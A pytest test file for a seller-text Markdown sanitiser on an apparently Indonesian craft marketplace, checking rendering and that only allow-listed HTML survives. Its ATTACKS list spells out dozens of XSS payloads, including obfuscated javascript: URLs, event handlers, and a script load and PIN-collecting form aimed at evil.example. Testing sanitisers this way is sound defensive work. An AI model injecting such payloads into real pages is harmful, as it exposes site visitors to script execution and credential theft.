"""generator/markup.py: seller Markdown renders, and nothing in it can run in a buyer's browser."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.load import markup
from generator.load.markup import find_unsafe, html_to_text, paragraphs, render_markdown

# The policy, written out here on purpose rather than imported: widening the module's
# allow-list (an <img>, an <iframe>, a style=) must fail this test.
SAFE_TAGS = {
    "p",
    "br",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "s",
    "del",
    "ul",
    "ol",
    "li",
    "h2",
    "h3",
    "h4",
    "blockquote",
    "a",
    "hr",
    "code",
    "pre",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "small",
}
SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"style"}, "td": {"style"}, "ol": {"start"}}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


class Parsed(HTMLParser):
    """Every tag and attribute of an HTML fragment, as a browser's tokenizer sees them."""

    def __init__(self, fragment: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text += data


def url_scheme(url: str) -> str | None:
    """The scheme a browser would use (WHATWG: trim C0 and spaces, drop tabs and newlines)."""
    url = re.sub(
        r"[\t\n\r]",
        "",
        url.strip(
            "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
            "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c"
            "\x1d\x1e\x1f \t\n\r"
        ),
    )
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return m.group(1).lower() if m else None


def assert_inert(html: str) -> Parsed:
    """No tag outside the allow-list, no on*/style attribute, no URL with a dangerous scheme."""
    parsed = Parsed(html)
    for tag, attrs in parsed.tags:
        assert tag in SAFE_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name}= survived in {html!r}"
            assert name in SAFE_ATTRIBUTES.get(tag, set()), f"{name}= on <{tag}> survived in {html!r}"
            if name == "href":
                scheme = url_scheme(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, f"{scheme}: survived in {html!r}"
            if name == "style":  # only alignment: no url(), no expression(), no other property
                assert re.fullmatch(r"(text-align:(left|right|center|justify);?)?", value or ""), html
            if name == "start":
                assert (value or "").isdigit(), html
    return parsed


# --- Markdown renders -------------------------------------------------------------------------


def test_bold_and_italic():
    html, removed = render_markdown("Kain **tulis** asli *Malon*")
    assert html == "<p>Kain <strong>tulis</strong> asli <em>Malon</em></p>"
    assert not removed


def test_bullet_and_numbered_lists():
    html, _ = render_markdown("- katun\n- pewarna alami\n\n1. cuci\n2. jemur")
    parsed = assert_inert(html)
    assert [t for t, _ in parsed.tags] == ["ul", "li", "li", "ol", "li", "li"]
    assert "katun" in parsed.text and "jemur" in parsed.text


def test_enter_makes_a_line_break():
    html, _ = render_markdown("Ukuran 2 x 1 m\nBahan katun")
    assert html == "<p>Ukuran 2 x 1 m<br>\nBahan katun</p>"


# A shop's texts (about, the market's intro) are often a YAML `|` block, wrapped where the
# seller's editor wrapped it: Markdown's own rule, a single line break is a space.
@pytest.mark.parametrize(
    "text, html",
    [
        (
            "Kami sepuluh ibu yang membatik\ndengan **pewarna alam**.\n\nSilakan mampir.",
            "<p>Kami sepuluh ibu yang membatik\ndengan <strong>pewarna alam</strong>.</p>\n<p>Silakan mampir.</p>",
        ),
        ("Kami [membatik](https://contoh.id)\ndi Malon.", None),  # Python-Markdown itself
    ],
)
def test_shop_texts_join_wrapped_lines_into_paragraphs(text, html):
    out, _ = render_markdown(text, breaks=False)
    assert "<br" not in out
    if html:
        assert out == html
    assert Parsed(out).text.replace("\n", " ").startswith("Kami ")


@settings(max_examples=1500, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "kata",
                "Batik",
                "1. ",
                " ",
                "\n",
                "\n\n",
                " \n",
                "- ",
                "-",
                "**",
                "*",
                "**tebal**",
                "#",
                ">",
                "|",
                "`",
                "&",
                "<",
                "[",
                "\\",
                "\u00a0",
                "😀",
                "\x00",
                "    ",
                "Rp 50.000",
                "\n- ",
                "\u2028",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_shop_texts_shortcut_is_what_python_markdown_writes(text):
    fast = markup.plain_markdown(text, breaks=False)
    if fast is not None:
        assert fast == markup._markdown(breaks=False).reset().convert(text)


@pytest.mark.parametrize(
    "text, expected",
    [
        (
            "Transfer BCA 0987 a.n. Ningsih, atau QRIS (kode QR dikirim\nlewat WhatsApp).\n",
            ("Transfer BCA 0987 a.n. Ningsih, atau QRIS (kode QR dikirim lewat WhatsApp).",),
        ),
        ("BCA 123\n  \nDANA 0812\r\nOVO 0813", ("BCA 123", "DANA 0812 OVO 0813")),
        ("", ()),
        ("\n \n", ()),
    ],
)
def test_plain_shop_texts_are_paragraphs(text, expected):
    assert paragraphs(text) == expected


def test_blank_line_makes_a_new_paragraph():
    html, _ = render_markdown("satu\n\ndua")
    assert html == "<p>satu</p>\n<p>dua</p>"


@pytest.mark.parametrize(
    "text, html",
    [
        ("# Cara merawat", "<h2>Cara merawat</h2>"),
        ("## Bahan", "<h2>Bahan</h2>"),
        ("### Ukuran", "<h3>Ukuran</h3>"),
        ("<h1>Judul</h1>", "<h2>Judul</h2>"),
    ],
)
def test_headings_never_compete_with_the_page_title(text, html):
    out, _ = render_markdown(text)
    assert out == html
    assert "<h1" not in out


def test_https_link_is_kept_with_a_safe_rel():
    html, removed = render_markdown("[katalog](https://example.com/katalog)")
    parsed = assert_inert(html)
    [(tag, attrs)] = parsed.tags[1:]
    assert tag == "a" and attrs["href"] == "https://example.com/katalog"
    assert set(attrs["rel"].split()) >= {"nofollow", "noopener"}
    assert not removed


@pytest.mark.parametrize(
    "text, href",
    [
        ('<a href="mailto:sri@example.com">surel</a>', "mailto:sri@example.com"),
        ('<a href="tel:+6281234567890">telepon</a>', "tel:+6281234567890"),
        ("<https://wa.me/6281234567890>", "https://wa.me/6281234567890"),
    ],
)
def test_mail_phone_and_whatsapp_links_are_kept(text, href):
    html, removed = render_markdown(text)
    assert Parsed(html).tags[-1][1]["href"] == href
    assert not removed


def test_table_renders():
    html, removed = render_markdown("| ukuran | harga |\n|---|---|\n| S | 50rb |")
    parsed = assert_inert(html)
    assert {t for t, _ in parsed.tags} == {"table", "thead", "tbody", "tr", "th", "td"}
    assert not removed


def test_table_alignment_is_kept_and_is_not_reported_as_unsafe():
    html, removed = render_markdown("| ukuran | harga |\n|:-:|--:|\n| S | 50rb |")
    parsed = assert_inert(html)
    cells = [(t, a.get("style")) for t, a in parsed.tags if t in ("th", "td")]
    assert cells == [
        ("th", "text-align:center"),
        ("th", "text-align:right"),
        ("td", "text-align:center"),
        ("td", "text-align:right"),
    ]
    assert not removed  # a seller writing a plain Markdown table gets no warning


def test_numbered_list_keeps_its_first_number():
    html, removed = render_markdown("3. rendam\n4. jemur")
    assert Parsed(html).tags[0] == ("ol", {"start": "3"})
    assert not removed


def test_code_shows_html_as_text():
    html, removed = render_markdown("tulis `<script>` di sini")
    assert html == "<p>tulis <code>&lt;script&gt;</code> di sini</p>"
    assert not removed


@pytest.mark.parametrize("text", ["", "   ", "\n\n"])
def test_empty_text_renders_nothing(text):
    html, removed = render_markdown(text)
    assert html == "" and not removed


# --- nothing executable survives -------------------------------------------------------------

ATTACKS = [
    # (seller text, what find_unsafe must name)
    ("<script>alert(1)</script>halo", ["<script>"]),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", ["<script>"]),
    ("<img src=x onerror=alert(1)>", ["<img>", "onerror="]),
    ('<IMG SRC="javascript:alert(1)">', ["<img>", "javascript:"]),
    ('<a href="javascript:alert(1)">klik</a>', ["javascript:"]),
    ('<a href="JaVaScRiPt&#58;alert(1)">klik</a>', ["javascript:"]),
    ('<a href="javascript&colon;alert(1)">klik</a>', ["javascript:"]),
    ('<a href="&#106;avascript:alert(1)">klik</a>', ["javascript:"]),
    ('<a href="&#0000106avascript:alert(1)">klik</a>', ["javascript:"]),
    ('<a href="  javascript:alert(1)">klik</a>', ["javascript:"]),
    ('<a href="&#1;javascript:alert(1)">klik</a>', ["javascript:"]),
    ('<a href="java&#9;script:alert(1)">klik</a>', []),
    ('<a href="java&#10;script:alert(1)">klik</a>', []),
    ('<a href="vbscript:msgbox(1)">klik</a>', ["vbscript:"]),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>', ["data:"]),
    ('<a href="data&#58;text/html,x">klik</a>', ["data:"]),
    ('<iframe src="https://evil.example"></iframe>', ["<iframe>"]),
    ("<svg onload=alert(1)>", ["<svg>", "onload="]),
    ("<svg><script>alert(1)</script></svg>", ["<svg>", "<script>"]),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["<math>"]),
    ("<style>body{background:url(javascript:alert(1))}</style>", ["<style>"]),
    ('<p style="background:url(javascript:alert(1))">x</p>', ["style="]),
    ('<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>', []),
    ('<ol start="1" onclick="alert(1)"><li>x</li></ol>', ["onclick="]),
    ('<p onclick="alert(1)">x</p>', ["onclick="]),
    ('<a href="https://example.com" onmouseover="alert(1)">x</a>', ["onmouseover="]),
    ("<details open ontoggle=alert(1)>", ["<details>", "ontoggle="]),
    ('<object data="x.swf"></object>', ["<object>"]),
    ('<embed src="x.swf">', ["<embed>"]),
    ('<form action="https://evil.example"><input name=pin><button>kirim</button></form>', ["<form>"]),
    ('<base href="javascript:/">', ["<base>"]),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ["<meta>"]),
    ('<link rel=stylesheet href="https://evil.example/x.css">', ["<link>"]),
    ("<scr<script>ipt>alert(1)</script>", ["<script>"]),
    ("<div><template><script>alert(1)</script></template></div>", ["<template>"]),
    ("[klik](javascript:alert(1))", ["javascript:"]),
    ("[klik](JAVASCRIPT:alert(1))", ["javascript:"]),
    ("[klik](<javascript:alert(1)>)", ["javascript:"]),
    ("[klik][r]\n\n[r]: javascript:alert(1)", ["javascript:"]),
    ("[klik](data:text/html,<script>alert(1)</script>)", ["data:"]),
    ("![foto](javascript:alert(1))", ["<img>"]),
    ("<javascript:alert(1)>", []),
    ('<a href="https://example.com" target="_blank" rel="opener">x</a>', ["target="]),
]


@pytest.mark.parametrize("text, named", ATTACKS)
def test_nothing_executable_survives(text, named):
    html, removed = render_markdown(text)
    assert_inert(html)
    for what in named:
        assert what in removed, f"{what} not named in {removed!r}"


@pytest.mark.parametrize("text", [t for t, _ in ATTACKS])
def test_contents_of_script_like_elements_are_dropped_with_them(text):
    html, _ = render_markdown(text)
    if re.search(r"<(script|style|template|iframe|svg|math|object)\b", text, re.I):
        assert "alert(1)" not in Parsed(html).text


def test_safe_text_around_removed_html_stays():
    html, removed = render_markdown("Kain **indigo**<script>alert(1)</script>\n\nUkuran 2 m")
    parsed = assert_inert(html)
    assert "Kain" in parsed.text and "indigo" in parsed.text and "Ukuran 2 m" in parsed.text
    assert "alert" not in parsed.text
    assert list(removed) == ["<script>"]


def test_rel_is_the_sanitisers_not_the_sellers():
    html, _ = render_markdown('<a href="https://example.com" rel="opener">x</a>')
    rel = Parsed(html).tags[-1][1]["rel"]
    assert "opener" not in rel.split()
    assert "noopener" in rel.split()


# --- find_unsafe ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, names",
    [
        ("<p>halo <strong>dunia</strong></p>", []),
        ("<script>x</script>", ["<script>"]),
        ('<p onclick="x" style="y" class="z">a</p>', ["onclick=", "style=", "class="]),
        ('<td align="center" style="text-align: center">a</td>', ["align="]),  # obsolete HTML
        ('<ol start="3"><li>a</li></ol>', []),
        ('<a href="javascript:x" style="y">a</a>', ["javascript:", "style="]),
        ('<a href="JAVASCRIPT:x">a</a><a href="javascript:y">b</a>', ["javascript:"]),  # each named once
        ('<img src="data:image/png;base64,AAAA">', ["<img>", "data:"]),
        ('<a href="https://example.com">a</a><a href="mailto:a@b.co">b</a><a href="tel:1">c</a>', []),
        ('<a href="/relatif">a</a><a href="#atas">b</a>', []),
        ("<h1>Judul</h1>", []),  # demoted to <h2>, not removed
        ("<!-- <script>x</script> -->", []),
    ],
)
def test_find_unsafe_names_what_the_sanitiser_drops(raw, names):
    assert find_unsafe(raw) == names


# --- plain text for link previews -------------------------------------------------------------


@pytest.mark.parametrize(
    "fragment, limit, text",
    [
        ("<p>Kain <strong>tulis</strong></p>\n<p>asli &amp; halus</p>", 0, "Kain tulis asli & halus"),
        ("<p>pendek</p>", 50, "pendek"),
        ("<p>a &lt;b&gt;</p>", 0, "a <b>"),
    ],
)
def test_html_to_text(fragment, limit, text):
    assert html_to_text(fragment, limit) == text


@pytest.mark.parametrize("limit", [10, 14, 20])
def test_html_to_text_cuts_at_a_word_within_the_limit(limit):
    words = ["satu", "dua", "tiga", "empat", "lima", "enam", "tujuh"]
    text = html_to_text("<p>" + " ".join(words) + "</p>", limit)
    assert len(text) <= limit and text.endswith("…")
    assert text[:-1].split() == words[: len(text[:-1].split())]


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.sampled_from(["kata", "**tebal**", " ", "\n", "\n\n", "- ", "\u00a0", "Rp 5.000", "é"]), max_size=20
    ).map("".join)
)
def test_shop_texts_are_the_same_with_the_plain_subset(text):
    fast = render_markdown.__wrapped__(text, False)
    saved, markup.plain_markdown = markup.plain_markdown, lambda text, breaks=True: None
    try:
        slow = render_markdown.__wrapped__(text, False)
    finally:
        markup.plain_markdown = saved
    assert fast == slow
